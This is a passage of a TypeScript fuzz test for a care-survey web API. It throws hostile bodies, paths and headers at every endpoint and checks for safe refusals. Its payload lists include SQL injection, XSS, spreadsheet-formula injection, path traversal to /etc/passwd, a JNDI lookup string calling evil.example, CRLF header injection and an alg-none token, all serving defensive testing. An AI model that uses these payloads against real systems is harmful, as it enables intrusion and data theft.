/**
 * Hostile input, generated with fast-check and thrown at every endpoint of the ENDPOINTS table by
 * a signed-in user who may make the call (the manager: both permissions, every facility):
 * malformed, oversized, wrong-typed and injection-laden bodies; path parameters with encoded
 * slashes, dots, percent garbage and overlong values; and content-type, cookie, Authorization,
 * Idempotency-Key and Origin headers of every sort. Every answer must be JSON without a 5xx,
 * errors in the endpoint's error shape (`{detail}`, `{msg}` on the reset calls) without a stack
 * trace or a file path, and nothing written unless the request was accepted; a request may only
 * be accepted (2xx) when the input is in fact valid (the shared schema accepts the body, the
 * parameters parse, no header that must be refused was sent). The only rows a refusal writes are
 * the ones DESIGN §4 asks for: a failed sign-in (login attempt + audit event), a wrong reset
 * code (attempt, and the code's try counter) and a replaced refresh token used again (the session
 * ends, audited).
 *
 * Each property has a fixed seed, so a run is the same everywhere; fast-check prints the seed and
 * the counterexample when one fails.
 *
 * The last blocks check that texts with markup and spreadsheet-formula prefixes are stored and
 * come back byte for byte as JSON strings, and that a NUL character is refused before it reaches
 * the database (PostgreSQL cannot store it).
 */
import crypto from 'node:crypto';
import zlib from 'node:zlib';
import {
  ACCOUNT_MESSAGES,
  AcknowledgementListResponseSchema,
  apiPath,
  API_BASE,
  ENDPOINTS,
  FetchAnswersResponseSchema,
  MESSAGES,
  XLSX_CONTENT_TYPE,
  type EndpointDef,
  type EndpointName,
  type Question,
} from '@carevoice/shared';
import fc from 'fast-check';
import type { LightMyRequestResponse } from 'fastify';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { z } from 'zod';
import { BODY_LIMIT_BYTES } from '../constants.js';
import { sha256 } from '../lib/crypto.js';
import { questionsOfSurvey } from '../modules/surveys/surveys.service.js';
import {
  dbState,
  ENDPOINT_REQUESTS,
  loadFacilityFixtures,
  loadPublicFixtures,
  scopeOf,
  type DbState,
  type EndpointRequest,
  type FacilityFixtures,
  type PublicFixtures,
} from './endpoint-requests.js';
import { describeEachDialect, useTestApp, type SignedIn, type TestDialect } from './harness.js';
import {
  answerPath,
  answerRecords,
  call,
  defaultAnswer,
  MAPLE,
  openSurveys,
} from './survey-kit.js';

const NAMES = Object.keys(ENDPOINTS) as EndpointName[];
/** Holds every permission in every facility, so every call can be accepted. */
const SIGNED_IN_AS = 'admin@carevoice.test';

/** The request body each endpoint reads (null: none; GET bodies are never read). */
const bodySchemaOf = (name: EndpointName): z.ZodType | null =>
  (ENDPOINTS[name] as EndpointDef).body ?? null;
const readsCsv = (name: EndpointName) => (ENDPOINTS[name] as EndpointDef).bodyType === 'csv';
/** Whether the endpoint answers a download (CSV or XLSX), which is audited. */
const answersFile = (name: EndpointName) =>
  (ENDPOINTS[name] as EndpointDef).responseType !== undefined;

/** What a path parameter of the endpoint must be (its entry's params schema). */
const paramSchemaOf = (name: EndpointName, param: string): z.ZodType | undefined =>
  (ENDPOINTS[name] as EndpointDef).params?.shape[param] as z.ZodType | undefined;

const methodOf = (name: EndpointName) => ENDPOINTS[name].method;
const paramsOf = (name: EndpointName) =>
  [...ENDPOINTS[name].path.matchAll(/:([A-Za-z]+)/g)].map((match) => match[1] as string);

/** Runs per property: enough to meet every generator branch, small enough for two cores. */
const RUNS = { body: 60, ignoredBody: 8, path: 25, headers: 20 } as const;

/** A fixed seed per property, from its name. */
function seedOf(property: string): number {
  return crypto.createHash('sha256').update(property).digest().readInt32BE(0);
}

// ---------------------------------------------------------------------------------------------
// Generators

const INJECTIONS = [
  "' OR '1'='1",
  "'; DROP TABLE users; --",
  '" OR ""="',
  '1; SELECT pg_sleep(5); --',
  "admin'--",
  "' UNION SELECT password_hash FROM users --",
  '%',
  '_',
  '\\',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("http://evil.example","x")',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'a\u0000b',
  '\u0000',
  '\u202Egnp.exe',
  '\uFEFF',
  '\uD800',
  '\uDFFF\uD800',
  'Zoë 👩‍⚕️ 日本語 עברית',
  ' ',
  '',
  'null',
  'undefined',
  'NaN',
  '-0',
  '1e309',
];

/** Characters that break naive SQL, HTML, CSV, URL or text handling, or a database encoding. */
const DANGEROUS_CHARACTERS = [
  '\u0000',
  '\uD800',
  '\uDFFF',
  "'",
  '"',
  '\\',
  '%',
  '_',
  '<',
  '\u202E',
  '\r\n',
  '\u2028',
];

const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(...INJECTIONS) },
  {
    weight: 4,
    arbitrary: fc
      .tuple(
        fc.string({ maxLength: 8 }),
        fc.constantFrom(...DANGEROUS_CHARACTERS),
        fc.string({ maxLength: 8 }),
      )
      .map(([before, character, after]) => `${before}${character}${after}`),
  },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(300, 5_001, 20_000, BODY_LIMIT_BYTES + 1)
      .map((length) => 'A'.repeat(length)),
  },
);

const hostileNumber = fc.oneof(
  fc.constantFrom(
    0,
    -1,
    1e308,
    -1e308,
    Number.MAX_SAFE_INTEGER + 2,
    Number.MIN_SAFE_INTEGER - 2,
    5e-324,
  ),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
  fc.integer(),
);

/** `__proto__` as an own key, the way JSON.parse makes it. */
const protoObject = (value: unknown) =>
  JSON.parse(`{"__proto__":${JSON.stringify(value) ?? 'null'}}`) as unknown;

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileString },
  { weight: 2, arbitrary: hostileNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, true, false, [], {}) },
  { weight: 2, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
  { weight: 1, arbitrary: fc.array(hostileString, { maxLength: 5 }) },
  {
    weight: 1,
    arbitrary: fc.integer({ min: 50, max: 3000 }).map((depth) => {
      let nested: unknown = 'bottom';
      for (let level = 0; level < depth; level += 1) nested = [nested];
      return nested;
    }),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }).map(protoObject) },
  {
    weight: 1,
    arbitrary: fc.constant({ constructor: { prototype: { polluted: true } } }),
  },
);

const hostileKey = fc.oneof(
  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', ''),
  hostileString.filter((key) => key.length < 200),
);

type JsonPath = (string | number)[];

/** Every path into a JSON value (not the root itself). */
function pathsOf(value: unknown, prefix: JsonPath = []): JsonPath[] {
  if (value === null || typeof value !== 'object') return [];
  const entries = Array.isArray(value)
    ? value.map((item, index) => [index, item] as const)
    : Object.entries(value);
  return entries.flatMap(([key, item]) => [[...prefix, key], ...pathsOf(item, [...prefix, key])]);
}

function valueAt(root: unknown, path: JsonPath): unknown {
  let value = root;
  for (const key of path) value = (value as Record<string | number, unknown>)[key];
  return value;
}

/** A copy of `root` with `change` applied to the container of `path`'s last key. */
function edit(
  root: unknown,
  path: JsonPath,
  change: (container: Record<string | number, unknown>, key: string | number) => void,
): unknown {
  const copy = structuredClone(root) as Record<string | number, unknown>;
  let container = copy;
  for (const key of path.slice(0, -1)) container = container[key] as typeof container;
  change(container, path.at(-1) as string | number);
  return copy;
}

const setKey = (
  container: Record<string | number, unknown>,
  key: string | number,
  value: unknown,
) =>
  Object.defineProperty(container, key, {
    value,
    enumerable: true,
    writable: true,
    configurable: true,
  });

/** JSON texts no parser should choke on. */
const RAW_BODIES = [
  '',
  ' ',
  '{',
  '}',
  '[',
  'nul',
  'null',
  'true',
  '0',
  '"text"',
  '[]',
  '{}',
  '{"a":1e999}',
  '{"a":-1e999}',
  '{"a":123456789012345678901234567890}',
  '{"a":1,"a":2}',
  '{"__proto__":{"isAdmin":true}}',
  '{"constructor":{"prototype":{"isAdmin":true}}}',
  '{"a":"\\ud800"}',
  '{"a":"\\u0000"}',
  "{'a':1}",
  '{"a":NaN}',
  '{"a":undefined}',
  '\u0000',
  '\uFEFF{}',
  `${'['.repeat(20_000)}${']'.repeat(20_000)}`,
  `${'{"a":'.repeat(5_000)}{"__proto__":1}${'}'.repeat(5_000)}`,
];

/**
 * A request body text: a mutation of the valid body (most often one of its strings replaced, so
 * the rest stays valid and the hostile text travels as deep as the request goes), a hostile value
 * instead of the body, or raw JSON garbage.
 */
function bodyText(valid: unknown): fc.Arbitrary<string> {
  const paths = pathsOf(valid);
  const anyPath = fc.constantFrom(...(paths.length > 0 ? paths : [[] as JsonPath]));
  const stringPaths = paths.filter((path) => typeof valueAt(valid, path) === 'string');
  const replaceAt = (path: JsonPath, value: unknown) =>
    path.length === 0
      ? value
      : edit(valid, path, (container, key) => setKey(container, key, value));
  const mutations: fc.WeightedArbitrary<unknown>[] = [
    {
      weight: 2,
      arbitrary: fc.tuple(anyPath, hostileValue).map(([path, value]) => replaceAt(path, value)),
    },
    {
      weight: 1,
      arbitrary: anyPath.map((path) =>
        path.length === 0
          ? {}
          : edit(valid, path, (container, key) => {
              if (Array.isArray(container)) container.splice(Number(key), 1);
              else delete container[key];
            }),
      ),
    },
    {
      weight: 1,
      arbitrary: fc
        .tuple(hostileKey, hostileValue)
        .map(([key, value]) =>
          valid !== null && typeof valid === 'object' && !Array.isArray(valid)
            ? setKey(structuredClone(valid) as Record<string, unknown>, key, value)
            : value,
        ),
    },
    {
      weight: 1,
      arbitrary: fc.tuple(anyPath, fc.integer({ min: 1, max: 3 })).map(([path, depth]) => {
        let wrapped: unknown = path.length === 0 ? valid : valueAt(valid, path);
        for (let level = 0; level < depth; level += 1) wrapped = [wrapped];
        return replaceAt(path, wrapped);
      }),
    },
    { weight: 1, arbitrary: hostileValue },
  ];
  if (stringPaths.length > 0) {
    mutations.push({
      weight: 5,
      arbitrary: fc
        .tuple(fc.constantFrom(...stringPaths), hostileString)
        .map(([path, value]) => replaceAt(path, value)),
    });
  }
  const validText = JSON.stringify(valid) ?? '';
  return fc.oneof(
    { weight: 8, arbitrary: fc.oneof(...mutations).map((body) => JSON.stringify(body) ?? '') },
    { weight: 1, arbitrary: fc.constantFrom(...RAW_BODIES) },
    {
      weight: 1,
      arbitrary: fc
        .nat({ max: Math.max(validText.length - 1, 0) })
        .map((cut) => validText.slice(0, cut)),
    },
  );
}

/** Path segments sent as they are: percent garbage, encoded slashes and dots, overlong. */
const RAW_SEGMENTS = [
  '%',
  '%%',
  '%zz',
  '%E0%A4%A',
  '%C0%AE',
  '%FF',
  '%00',
  'a%00b',
  '%2F',
  'a%2Fb',
  '%2F..%2F..%2Fetc%2Fpasswd',
  '%5C..%5C',
  '%252F',
  '%u0041',
  'a..b',
  '...',
  ';',
  "'",
  '*',
  '~',
  '!$&()',
  '%20',
  '+',
  '%0D%0ASet-Cookie:%20x=1',
  '%3Cscript%3E',
];

/** A path segment: raw garbage, or a hostile value URI-encoded (never one that moves the route). */
const hostileSegment: fc.Arbitrary<string> = fc
  .oneof(
    fc.constantFrom(...RAW_SEGMENTS),
    fc.constantFrom(99, 100, 101, 500, 5_000).map((length) => 'a'.repeat(length)),
    hostileString.map((value) => {
      try {
        return encodeURIComponent(value);
      } catch {
        return '%ED%A0%80'; // a lone surrogate, which encodeURIComponent refuses to encode
      }
    }),
  )
  .filter((segment) => segment !== '' && !/^(?:\.|%2e){1,2}$/i.test(segment));

function decodedOrNull(segment: string): string | null {
  try {
    return decodeURIComponent(segment);
  } catch {
    return null;
  }
}

/** Stands for the live session cookie in generated headers; replaced when the request is sent. */
const LIVE_SESSION = '<live session cookie>';

interface HeaderContext {
  name: EndpointName;
  hasBody: boolean;
  /** The body is CSV text (an import): a JSON content type is refused. */
  csvBody: boolean;
  readsIdempotencyKey: boolean;
}

interface HeaderChoice {
  headers: Record<string, string>;
  /** The endpoint must refuse a request carrying these headers (a 2xx would be wrong). */
  refuses: (context: HeaderContext) => boolean;
}

const isPublicName = (name: EndpointName) => ENDPOINTS[name].access.kind === 'public';
const never = () => false;
const withoutSession = ({ name }: HeaderContext) => !isPublicName(name);

/** Credentials: the live cookie beside junk, garbage instead of it, or a bogus Authorization. */
const credentialHeaders: fc.Arbitrary<HeaderChoice> = fc.oneof(
  fc
    .constantFrom('x=%E0%A4%A', 'token=%%%', '=;=;;', 'a=b; a=c', `junk=${'z'.repeat(4000)}`)
    .map((junk): HeaderChoice => ({
      headers: { cookie: `${junk}; ${LIVE_SESSION}` },
      refuses: never,
    })),
  fc
    .constantFrom(
      '',
      'cv_session=',
      'cv_session=%',
      'cv_session=garbage',
      'cv_session="',
      "cv_session=' OR '1'='1",
      `cv_session=${'A'.repeat(4000)}`,
    )
    .map((cookie): HeaderChoice => ({ headers: { cookie }, refuses: withoutSession })),
  fc
    .constantFrom(
      'Bearer',
      'Bearer ',
      'Bearer garbage',
      'Bearer a.b.c',
      // alg "none", which must never verify
      'Bearer eyJhbGciOiJub25lIn0.eyJzaWQiOiJ4IiwidHlwIjoiYWNjZXNzIn0.',
      `Bearer ${'x'.repeat(5000)}`,
      'Basic YWRtaW46YWRtaW4=',
      'Bearer %00',
    )
    .chain((authorization) =>
      fc.constantFrom<HeaderChoice>(
        // Alone it opens nothing; beside the live cookie either answer is fine.
        { headers: { authorization, cookie: '' }, refuses: withoutSession },
        { headers: { authorization, cookie: LIVE_SESSION }, refuses: never },
      ),
    ),
);

const contentTypeHeaders: fc.Arbitrary<HeaderChoice> = fc.oneof(
  fc
    .constantFrom(
      'application/json',
      'application/json; charset=utf-8',
      'APPLICATION/JSON',
      'application/json; charset=utf-16',
    )
    .map((value): HeaderChoice => ({
      headers: { 'content-type': value },
      refuses: ({ hasBody, csvBody }) => hasBody && csvBody,
    })),
  fc
    .constantFrom(
      'text/plain',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=x',
      'application/xml',
      'application/jsonx',
      'json',
      ';;;===',
      '*/*',
    )
    .map((value): HeaderChoice => ({
      headers: { 'content-type': value },
      refuses: ({ hasBody }) => hasBody,
    })),
);

const idempotencyKeyHeaders: fc.Arbitrary<HeaderChoice> = fc
  .constantFrom('', ' ', 'a b', 'k'.repeat(101), '../../etc', '<script>', 'ключ', '%00', "' OR 1=1")
  .map((key): HeaderChoice => ({
    headers: { 'idempotency-key': key },
    refuses: ({ readsIdempotencyKey }) => readsIdempotencyKey,
  }));

const originHeaders: fc.Arbitrary<HeaderChoice> = fc.oneof(
  fc
    .constantFrom<Record<string, string>>(
      { origin: 'https://evil.example' },
      { origin: 'null' },
      { origin: 'http://localhost:3000.evil.example' },
      { 'sec-fetch-site': 'cross-site' },
    )
    .map((headers): HeaderChoice => ({
      headers,
      refuses: ({ name }) => methodOf(name) === 'POST',
    })),
  fc.constant<HeaderChoice>({ headers: { 'sec-fetch-site': 'same-origin' }, refuses: never }),
);

const otherHeaders: fc.Arbitrary<HeaderChoice> = fc
  .constantFrom<Record<string, string>>(
    { 'x-forwarded-for': "'; DROP TABLE users; --" },
    { 'x-forwarded-for': '999.999.999.999, ::g, <script>' },
    { 'user-agent': 'U'.repeat(8000) },
    { 'user-agent': "Zo\u00eb's <script>alert(1)</script>" },
    { accept: '*/*;q=garbage' },
    { 'accept-encoding': 'gzip;q=2, br;q=-1' },
    { 'x-http-method-override': 'DELETE' },
    { 'content-encoding': 'gzip' },
    { 'x-request-id': '../../etc/passwd' },
  )
  .map((headers): HeaderChoice => ({ headers, refuses: never }));

/** One to five header variants, each of a different kind. */
const headerChoices: fc.Arbitrary<HeaderChoice[]> = fc
  .subarray(
    [credentialHeaders, contentTypeHeaders, idempotencyKeyHeaders, originHeaders, otherHeaders],
    {
      minLength: 1,
    },
  )
  .chain((kinds) => fc.tuple(...kinds) as fc.Arbitrary<HeaderChoice[]>);

// ---------------------------------------------------------------------------------------------
// The answer checks

const STACK_TRACE = [
  /\bat \S+ \(/, // "at fn (file:line:col)"
  /\bat (?:file:|node:|\/)\S*:\d+/, // "at /path/file.js:1:2"
  /\b\w*Error: /, // "TypeError: …"
  /\.(?:ts|js|mjs|cjs):\d+/, // file.js:12
  /node_modules|\/work\/|\/home\/|\/srv\//,
];

/** The body as an HTTP client reads it: decompressed by its Content-Encoding, if any. */
function decodedBody(response: LightMyRequestResponse): string {
  const encoding = response.headers['content-encoding'];
  if (encoding === undefined) return response.body;
  expect(['br', 'gzip']).toContain(encoding);
  const decode = encoding === 'br' ? zlib.brotliDecompressSync : zlib.gunzipSync;
  return decode(response.rawPayload).toString('utf8');
}

/** The body of an answer: JSON, and for an error the endpoint's error shape without internals. */
function checkAnswer(name: EndpointName, response: LightMyRequestResponse): void {
  expect(response.statusCode, response.body).toBeGreaterThanOrEqual(200);
  expect(response.statusCode, response.body).toBeLessThan(500);
  if (response.statusCode < 300 && answersFile(name)) {
    const expected =
      (ENDPOINTS[name] as EndpointDef).responseType === 'csv' ? 'text/csv' : XLSX_CONTENT_TYPE;
    expect(String(response.headers['content-type']).startsWith(expected)).toBe(true);
    return;
  }
  expect(String(response.headers['content-type'])).toMatch(/^application\/json/);
  const body = JSON.parse(decodedBody(response)) as Record<string, unknown>;
  if (response.statusCode < 400) return;
  for (const pattern of STACK_TRACE) expect(response.body).not.toMatch(pattern);
  if ((ENDPOINTS[name] as EndpointDef).errorBody === 'msg') {
    expect(Object.keys(body)).toEqual(['msg']);
    expect(typeof body.msg).toBe('string');
  } else {
    expect(typeof body.detail).toBe('string');
    // A refused CSV import also answers its report: counts, the problems as `errors` and how
    // its columns were read or could be (`mapping`, ADR 056); a refused publish lists the
    // questionnaire's problems (ADR 017).
    const allowed = readsCsv(name)
      ? ['detail', 'errors', 'created', 'updated', 'unchanged', 'mapping']
      : (ENDPOINTS[name] as EndpointDef).errorBody === 'questionnaire'
        ? ['detail', 'errors', 'problems']
        : ['detail', 'errors'];
    expect(Object.keys(body).filter((key) => !allowed.includes(key))).toEqual([]);
  }
}

function bodyDetail(response: LightMyRequestResponse): string | undefined {
  try {
    return response.json<{ detail?: string }>().detail;
  } catch {
    return undefined;
  }
}

/**
 * Rows a refusal itself writes, by design (DESIGN §4): a failed sign-in records the attempt and
 * an audit event; a wrong reset code records the attempt and counts a try on the code.
 */
/**
 * What a request may write: rows `added` per table, tables whose rows `changed`, and tables that
 * `mayAdd` one row (a mail, when the refusal is the one that reaches a limit).
 */
interface Writes {
  added: Record<string, number>;
  changed: string[];
  mayAdd?: string[];
}

function refusalWrites(name: EndpointName, response: LightMyRequestResponse): Writes {
  if (name === 'login' && response.statusCode === 401) {
    return { added: { login_attempts: 1, audit_events: 1 }, changed: [] };
  }
  // A wrong current password counts as a failed sign-in; a wrong second factor is recorded and
  // audited (ADR 020, 021).
  const detail =
    response.statusCode === 400 || response.statusCode === 401 ? bodyDetail(response) : '';
  if (
    (name === 'accountPassword' || name === 'accountPin') &&
    detail === ACCOUNT_MESSAGES.currentPasswordWrong
  ) {
    return { added: { login_attempts: 1 }, changed: [] };
  }
  // A wrong password or PIN at the tablet's lock is a failed unlock, audited (ADR 025); the one
  // that brings the user to the limit mails them (ADR 042).
  if (name === 'unlock' && detail === MESSAGES.unlockWrong) {
    return { added: { login_attempts: 1, audit_events: 1 }, changed: [], mayAdd: ['mail_outbox'] };
  }
  // A wrong code: the same, and a step-two token counts it (ADR 042).
  if (
    (name === 'accountMfaSetup' ||
      name === 'accountMfaEnable' ||
      name === 'accountMfaDisable' ||
      name === 'loginMfa') &&
    (detail === ACCOUNT_MESSAGES.mfaCodeWrong || detail === ACCOUNT_MESSAGES.currentPasswordWrong)
  ) {
    return {
      added: { login_attempts: 1, audit_events: 1 },
      changed: name === 'loginMfa' ? ['mfa_challenges'] : [],
      mayAdd: ['mail_outbox'],
    };
  }
  // A refresh token of a session that was already replaced ends that session (ADR 021).
  if (
    name === 'refresh' &&
    response.statusCode === 401 &&
    response.json<{ detail?: string }>().detail === ACCOUNT_MESSAGES.refreshTokenReused
  ) {
    return { added: { audit_events: 1 }, changed: ['sessions'] };
  }
  if (
    name === 'resetConfirm' &&
    response.statusCode === 400 &&
    response.json<{ msg?: string }>().msg === MESSAGES.invalidResetCode
  ) {
    return { added: { login_attempts: 1 }, changed: ['password_resets'] };
  }
  // A survey link's call that fails counts against the token and the address (ADR 059).
  if (
    (name === 'publicSurvey' ||
      name === 'publicSurveyAnswers' ||
      name === 'publicSurveyUnsubscribe') &&
    response.statusCode >= 400 &&
    response.statusCode < 500 &&
    response.statusCode !== 429
  ) {
    return { added: {}, changed: [], mayAdd: ['login_attempts'] };
  }
  return { added: {}, changed: [] };
}

/**
 * Rows an accepted read writes: an export (a download) and a read of answers are audited
 * (DESIGN §4, §8; ADR 043).
 */
function readWrites(name: EndpointName): Writes {
  const audited = answersFile(name) || (ENDPOINTS[name] as EndpointDef).auditedRead === true;
  // A survey link's page marks the link opened the first time (ADR 059).
  return {
    added: audited ? { audit_events: 1 } : {},
    changed: name === 'publicSurvey' ? ['survey_links'] : [],
  };
}

function expectWrites(
  name: EndpointName,
  response: LightMyRequestResponse,
  before: DbState,
  after: DbState,
): void {
  // Accepted: a valid request writes what it writes; a GET nothing but an audited read's event.
  if (response.statusCode < 300 && ENDPOINTS[name].method !== 'GET') return;
  const writes = response.statusCode < 300 ? readWrites(name) : refusalWrites(name, response);
  const { added, changed } = writes;
  const mayAdd = writes.mayAdd ?? [];
  const expectedCounts = Object.fromEntries(
    Object.entries(before.counts).map(([table, count]) => {
      const expected = count + (added[table] ?? 0);
      const extra = (after.counts[table] ?? 0) - expected;
      return [table, mayAdd.includes(table) && extra === 1 ? expected + 1 : expected];
    }),
  );
  expect(after.counts, 'row counts after a refusal or a read').toEqual(expectedCounts);
  const untouched = (digests: Record<string, string>) =>
    Object.fromEntries(
      Object.entries(digests).filter(
        ([table]) => !(table in added) && !changed.includes(table) && !mayAdd.includes(table),
      ),
    );
  expect(untouched(after.digests), 'rows after a refusal or a read').toEqual(
    untouched(before.digests),
  );
}

// ---------------------------------------------------------------------------------------------

/**
 * The URL of an endpoint: params URI-encoded, except `raw` ones, which are sent as they are;
 * then the query, URI-encoded, except `rawQuery` values.
 */
function urlOf(
  name: EndpointName,
  request: EndpointRequest,
  raw: Record<string, string> = {},
  rawQuery: Record<string, string> = {},
): string {
  const path = ENDPOINTS[name].path.replace(
    /:([A-Za-z]+)/g,
    (_, key: string) => raw[key] ?? encodeURIComponent(request.params?.[key] ?? ''),
  );
  const query = apiPath('me', {}, request.query).split('?')[1];
  const pairs = [
    ...(query ? query.split('&').filter((pair) => !((pair.split('=')[0] ?? '') in rawQuery)) : []),
    ...Object.entries(rawQuery).map(([key, value]) => `${key}=${value}`),
  ];
  return `${API_BASE}/${path}/${pairs.length > 0 ? `?${pairs.join('&')}` : ''}`;
}

/** The content type of the endpoint's body. */
function bodyType(name: EndpointName): string {
  return readsCsv(name) ? 'text/csv; charset=utf-8' : 'application/json';
}

/** A request's body as sent: CSV text as it is, anything else as JSON. */
function payloadOf(request: EndpointRequest): string {
  return typeof request.body === 'string' ? request.body : JSON.stringify(request.body);
}

/**
 * A test file's share of the checks: part 1 takes the stored-texts and NUL blocks and the
 * endpoints at even places of the ENDPOINTS table, part 2 those at odd places. Vitest runs a file
 * on one worker, so the two files let both workers share the properties (ADR 058); together they
 * run every test of the old single file, on each dialect, under the same names.
 */
type HostileInputPart = 1 | 2;

/** The endpoints whose properties `part` runs. */
const namesOfPart = (part: HostileInputPart): EndpointName[] =>
  NAMES.filter((_, index) => index % 2 === part - 1);

/** Declares `part`'s tests under "hostile input [sqlite]" (and "[postgres]"), as before. */
export function describeHostileInput(part: HostileInputPart): void {
  describeEachDialect('hostile input', (dialect) => hostileInput(dialect, part));
}

function hostileInput(dialect: TestDialect, part: HostileInputPart): void {
  const t = useTestApp(dialect, { seed: true });
  let fixtures: FacilityFixtures;
  let publicFixtures: PublicFixtures;
  let session: SignedIn | undefined;
  /** The database state after the last request (nothing else writes between two requests). */
  let known: DbState | undefined;

  const signedIn = async () => {
    if (!session) {
      session = await t.login(SIGNED_IN_AS);
      known = undefined;
    }
    return session;
  };
  const requestFor = (name: EndpointName, who: SignedIn) =>
    ENDPOINT_REQUESTS[name](scopeOf(t, fixtures, publicFixtures, who.body.sf_user_id));

  /**
   * Sends one request as the signed-in user and checks the answer and the writes. `accept`: the
   * input is valid, so a 2xx is allowed (a 2xx for input that is not valid is a failure).
   */
  async function attempt(
    name: EndpointName,
    send: (who: SignedIn) => Promise<LightMyRequestResponse>,
    accept: boolean,
  ): Promise<void> {
    const who = await signedIn();
    const before = known ?? (await dbState(t));
    const response = await send(who);
    const after = await dbState(t);
    known = after;
    // Logout ends the session; a refused credential only clears cookies. Sign in again if ended.
    if (response.cookies.some((cookie) => cookie.name === 'cv_session' && cookie.value === '')) {
      const row = await t.db
        .selectFrom('sessions')
        .select('revoked_at')
        .where('id', '=', sha256(who.cookies.cv_session ?? ''))
        .executeTakeFirst();
      if (row?.revoked_at !== null) session = undefined;
    }
    checkAnswer(name, response);
    if (response.statusCode < 300) {
      expect(accept, `accepted (${response.statusCode}) although the input is not valid`).toBe(
        true,
      );
    }
    expectWrites(name, response, before, after);
    // An accepted write used its records up (a submitted survey, a decided review): the next run
    // gets fresh ones, so it can go as deep as this one did.
    if (response.statusCode < 300 && methodOf(name) === 'POST') {
      fixtures = await loadFacilityFixtures(t, MAPLE, fixtures);
      // Loading may write (a recent decision to undo, endpoint-requests.ts): read the state again.
      known = undefined;
    }
  }

  beforeAll(async () => {
    fixtures = await loadFacilityFixtures(t, MAPLE);
    publicFixtures = await loadPublicFixtures(t);
  });
  beforeEach(() => {
    known = undefined;
  });

  if (part === 1) {
    describe('texts with markup and spreadsheet formulas', () => {
      const TEXTS = [
        '<img src=x onerror=alert(1)>',
        "=cmd|'/c calc'!A0",
        '+SUM(1+1)',
        '-2+3',
        '@SUM(A1:A2)',
        '=HYPERLINK("http://evil.example","click me")',
        '<script>alert("x")</script> & \'single\' "double"',
        'Zoë 👩‍⚕️ — 日本語',
      ];
      const text = (index: number) => TEXTS[index % TEXTS.length] as string;

      it('are stored and come back byte for byte as JSON strings through fetch-question-answers and the acknowledgement list', async () => {
        const who = await signedIn();
        // A resident and an employee named with markup and formulas, and a survey for them.
        const key = crypto.randomUUID().slice(0, 8);
        const resident = {
          id: `res-${key}`,
          facility_id: MAPLE,
          first_name: '<b onmouseover=alert(1)>Iris</b>',
          last_name: '=1+2',
          client_id: `X${key}`,
          active: 1 as const,
          discharge_reason: null,
          discharged_at: null,
        };
        const employee = {
          id: `emp-${key}`,
          facility_id: MAPLE,
          code: `C${key}`,
          name: '@Zoe <i>Quill</i>',
          department: 'Nursing',
          position: '+Nurse',
          active: 1 as const,
        };
        const surveyId = `sv-${key}`;
        await t.db.insertInto('residents').values(resident).execute();
        await t.db.insertInto('employees').values(employee).execute();
        await t.db
          .insertInto('surveys')
          .values({
            id: surveyId,
            facility_id: MAPLE,
            resident_id: resident.id,
            survey_type: 'Admission',
            survey_set_id: null,
            due_date: '2026-11-20',
            status: 'due',
            delayed_until: null,
            created_by: null,
            created_at: '2026-11-01T08:00:00.000Z',
            submitted_by: null,
            submitted_at: null,
          })
          .execute();
        const questions = await questionsOfSurvey(t.db, {
          facility_id: MAPLE,
          survey_type: 'Admission',
          survey_set_id: null,
        });
        let textAnswers = 0;
        const path = answerPath(questions, (question: Question) => {
          if (question.type !== 'Text') return defaultAnswer(question);
          textAnswers += 1;
          return text(textAnswers);
        });
        expect(textAnswers, 'the Admission questionnaire has a Text question').toBeGreaterThan(0);
        const comments = path.map((_, index) => text(index));
        const reviews = TEXTS.map((_, index) => text(index + 3));
        const submitted = await call(t, who, 'submitAnswers', {
          headers: { 'idempotency-key': `texts-${key}` },
          body: {
            survey_answer_list: answerRecords(surveyId, path, (index) => text(index)),
            patient_id: surveyId,
            sf_user_id: who.body.sf_user_id,
            ack_data: reviews.map((review) => ({
              id: employee.code,
              name: employee.name,
              position: employee.position,
              department: employee.department,
              comment: review,
            })),
          },
        });
        expect(submitted.statusCode, submitted.body).toBe(200);

        const answers = await call(t, who, 'fetchAnswers', {
          body: { survey_id_list: [surveyId] },
        });
        expect(answers.statusCode).toBe(200);
        expect(answers.headers['content-type']).toMatch(/^application\/json/);
        const { data } = FetchAnswersResponseSchema.parse(answers.json());
        expect(data.map((row) => row.answer)).toEqual(path.map((entry) => entry.answer));
        expect(data.map((row) => row.comment)).toEqual(comments);
        const sentTexts = [...comments, ...path.map((entry) => entry.answer)].filter(
          (value): value is string => value !== null && TEXTS.includes(value),
        );
        expect(new Set(sentTexts).size).toBe(Math.min(TEXTS.length, path.length));
        // Plain JSON strings: the JSON encoding of each text, not HTML-escaped or otherwise changed.
        for (const value of sentTexts) expect(answers.body).toContain(JSON.stringify(value));

        const list = await call(t, who, 'acknowledgements', { params: { facilityId: MAPLE } });
        expect(list.statusCode).toBe(200);
        expect(list.headers['content-type']).toMatch(/^application\/json/);
        const mine = AcknowledgementListResponseSchema.parse(list.json()).find(
          (item) => item.name === employee.name,
        );
        // Reviews of one submission share a time, so their order among themselves is not fixed.
        expect(mine?.reviews.map((review) => review.review).sort()).toEqual([...reviews].sort());
        for (const review of mine?.reviews ?? []) {
          expect(review.patient_name).toBe(`${resident.first_name} ${resident.last_name}`);
        }
        for (const value of [employee.name, resident.first_name, resident.last_name, ...reviews]) {
          expect(list.body).toContain(JSON.stringify(value).slice(1, -1));
        }
      });
    });

    describe('a NUL character, which PostgreSQL cannot store', () => {
      it('is refused with 400 in every text that is stored or searched, and nothing is written', async () => {
        const who = await signedIn();
